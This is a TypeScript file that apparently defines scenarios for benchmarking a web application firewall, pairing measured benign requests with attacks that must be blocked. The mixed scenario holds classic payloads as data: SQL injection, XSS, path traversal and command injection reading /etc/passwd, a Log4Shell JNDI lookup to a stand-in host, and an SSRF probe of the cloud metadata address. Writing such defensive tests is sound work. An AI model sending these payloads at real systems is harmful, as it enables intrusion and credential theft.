// What the bench sends: per scenario benign requests, which are measured, and attacks of the same shape, which must be blocked. The
// requests differ as those of a shop's customers do: identifiers, dates, people and addresses change, titles and currencies come again.
import { BOUNDARY, contactForm, csv, picture, proseJson, recordsJson, upload } from "./bodies.ts";
import type { Setup } from "./fleet.ts";
import { orderMessage } from "./grpc-messages.ts";
import { catalogueQuery, ordersJson, rawRequest } from "./payloads.ts";

export interface Scenario {
  /** On the command line and in records. */
  id: string;
  name: string;
  /** What a reader of the table should know. */
  note?: string;
  /** Sent in turn. */
  measured: Measured[];
  /** Must be blocked where attacks are; looked at before anything is measured. */
  attacks: Buffer[];
  /** Of a body, on average over what is measured; 0 = no body. */
  bodyBytes: number;
  setup: Setup;
  connections: number;
}

export interface Measured {
  bytes: Buffer;
  isAttack: boolean;
}

/** Connections unless a scenario is about their number. */
const CONNECTIONS = 16;
const SHIPPED: Setup = { workers: 1, grpc: false };
const JSON_TYPE = ["content-type: application/json"];
const FORM_TYPE = ["content-type: application/x-www-form-urlencoded"];
const UPLOAD_TYPE = [`content-type: multipart/form-data; boundary=${BOUNDARY}`];
/** Different requests of a scenario, as far as they stay below so many bytes together. */
const VARIANTS = 64;
const VARIANT_BYTES = 512 * 1024;
const KB = 1024;
const MB = KB * KB;
const GRPC_LINES = 24;
const FILE_BYTES = 32 * KB;
const ATTACK_NOTE = "x' OR 1=1 -- ";

const GET = get("get", "GET, 8 headers, 5 parameters");

/** The four that the targets speak of, which are always sent in the same form: figures stay comparable. */
const MAIN: readonly Scenario[] = [
  GET,
  post("json-1k", "POST 1 KB JSON", KB),
  post("json-8k", "POST 8 KB JSON", 8 * KB),
  post("json-64k", "POST 64 KB JSON", 64 * KB),
];

const LONG: Scenario = {
  ...post("json-1m", "POST 1 MB JSON", MB),
  note: "128 KiB are held (`body_capture_size`), the rest is judged while it passes",
};

export const SCENARIOS: readonly Scenario[] = [
  ...MAIN,
  LONG,
  {
    ...LONG,
    ...{
      id: "json-1m-held",
      name: "POST 1 MB JSON, held",
      note: "`body_capture_size` 2 MiB: all of it is held",
    },
    setup: { ...SHIPPED, captureBytes: 2 * MB },
  },
  bodies("json-8k-records", "POST 8 KB JSON, records", {
    ...{ path: "/api/readings", headers: JSON_TYPE, size: 8 * KB },
    make: (seed, note) => withNote(recordsJson(8 * KB, seed), note),
  }),
  bodies("json-8k-prose", "POST 8 KB JSON, prose", {
    ...{ path: "/api/articles", headers: JSON_TYPE, size: 8 * KB },
    make: (seed, note) => withNote(proseJson(8 * KB, seed), note),
  }),
  bodies("form", "POST form, 1 KB", {
    ...{ path: "/api/contact", headers: FORM_TYPE, size: KB },
    make: (seed, note) => contactForm(seed) + (note === undefined ? "" : `&note=${encodeURIComponent(note)}`),
  }),
  bodies("upload-picture", "POST multipart, 32 KB picture", {
    ...{ path: "/api/files", headers: UPLOAD_TYPE, size: FILE_BYTES },
    make: (seed, note) => upload(picture(FILE_BYTES, seed), seed, note),
  }),
  bodies("upload-csv", "POST multipart, 32 KB CSV", {
    ...{ path: "/api/files", headers: UPLOAD_TYPE, size: FILE_BYTES },
    make: (seed, note) => upload(csv(FILE_BYTES, seed), seed, note),
  }),
  grpc(),
  mixed(),
  { ...post("workers-2", "POST 1 KB JSON, 2 workers", KB), setup: { ...SHIPPED, workers: 2 } },
  ...[10, 100, 1000].map((connections) => ({
    ...post(`connections-${connections}`, `POST 1 KB JSON, ${connections} connections`, KB),
    connections,
  })),
];

/** Scenarios by id, by the group `main`, or by a part of their name; undefined: nothing is called that. */
export function findScenarios(wanted: string): readonly Scenario[] | undefined {
  if (wanted === "main") return MAIN;
  const exact = SCENARIOS.filter(({ id }) => id === wanted);
  if (exact.length > 0) return exact;
  const similar = SCENARIOS.filter(({ id, name }) =>
    `${id} ${name}`.toLowerCase().includes(wanted.toLowerCase()),
  );
  return similar.length > 0 ? similar : undefined;
}

function scenario(id: string, name: string, benign: Buffer[], attacks: Buffer[], bodyBytes = 0): Scenario {
  const measured = benign.map((bytes) => ({ bytes, isAttack: false }));
  return { id, name, measured, attacks, bodyBytes, setup: SHIPPED, connections: CONNECTIONS };
}

function get(id: string, name: string): Scenario {
  const benign = variants(0, (seed) => rawRequest("GET", `/api/items?${catalogueQuery(seed)}`));
  const attack = rawRequest("GET", `/api/items?${catalogueQuery(1)}%27%20OR%201%3D1%20--%20`);
  return scenario(id, name, benign, [attack]);
}

/** The attack is the last value of the body, so that all of it must be read. */
function post(id: string, name: string, size: number): Scenario {
  return bodies(id, name, {
    ...{ path: "/api/orders", headers: JSON_TYPE, size },
    make: (seed, note) =>
      note === undefined ? ordersJson(size, seed) : ordersJson(size).replace(/\}$/, `,"note":"${note}"}`),
  });
}

interface Bodies {
  path: string;
  headers: readonly string[];
  /** About so many bytes each. */
  size: number;
  /** A body; with a note, as its last value. */
  make: (seed: number, note?: string) => string | Buffer;
}

function bodies(id: string, name: string, { path, headers, size, make }: Bodies): Scenario {
  const sent: number[] = [];
  const benign = variants(size, (seed) => {
    const body = make(seed);
    sent.push(Buffer.byteLength(body));
    return rawRequest("POST", path, headers, body);
  });
  const attack = rawRequest("POST", path, headers, make(1, ATTACK_NOTE));
  return scenario(id, name, benign, [attack], mean(sent));
}

/** `text` as the first of two values, the note as the second. */
function withNote(text: string, note?: string): string {
  return note === undefined ? text : `[${text},${JSON.stringify(note)}]`;
}

function grpc(): Scenario {
  const benign = variants(KB, (seed) => orderMessage(seed, GRPC_LINES));
  const attack = orderMessage(1, GRPC_LINES, ATTACK_NOTE);
  const size = mean(benign.map((message) => message.length));
  return {
    ...scenario("grpc", "gRPC, unary, 1 KB", benign, [attack], size),
    setup: { ...SHIPPED, grpc: true },
  };
}

/** Nine benign requests of other scenarios, then an attack; each attack is another kind at another place. */
function mixed(): Scenario {
  const attacks = [
    rawRequest("GET", "/api/items?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
    rawRequest("POST", "/api/orders", JSON_TYPE, ordersJson(KB).replace(/\}$/, `,"note":"${ATTACK_NOTE}"}`)),
    rawRequest("GET", "/api/items?f=../../../../etc/passwd"),
    rawRequest("POST", "/api/contact", FORM_TYPE, "name=%3B%20cat%20/etc/passwd&subject=Hello"),
    rawRequest("POST", "/api/login", JSON_TYPE, '{"user":"${jndi:ldap://x.example/a}","password":"secret"}'),
    rawRequest("GET", "/api/items?u=http://169.254.169.254/latest/meta-data/"),
  ];
  const benign = [
    (seed: number) => rawRequest("GET", `/api/items?${catalogueQuery(seed)}`),
    (seed: number) => rawRequest("POST", "/api/orders", JSON_TYPE, ordersJson(KB, seed)),
    (seed: number) => rawRequest("POST", "/api/contact", FORM_TYPE, contactForm(seed)),
  ];
  const measured = Array.from({ length: 60 }, (_, i) => {
    const isAttack = i % 10 === 9;
    const bytes = isAttack ? attacks[Math.floor(i / 10)]! : benign[i % benign.length]!(i);
    return { bytes, isAttack };
  });
  return {
    ...scenario("attacks", "Mixed, 10 % attacks", [], attacks),
    ...{ measured, note: "each block is answered and logged as an event" },
  };
}

function variants(size: number, make: (seed: number) => Buffer): Buffer[] {
  const count = Math.max(4, Math.min(VARIANTS, Math.floor(VARIANT_BYTES / (size + 1))));
  return Array.from({ length: count }, (_, i) => make(i + 1));
}

function mean(values: readonly number[]): number {
  return Math.round(values.reduce((sum, value) => sum + value, 0) / values.length);
}
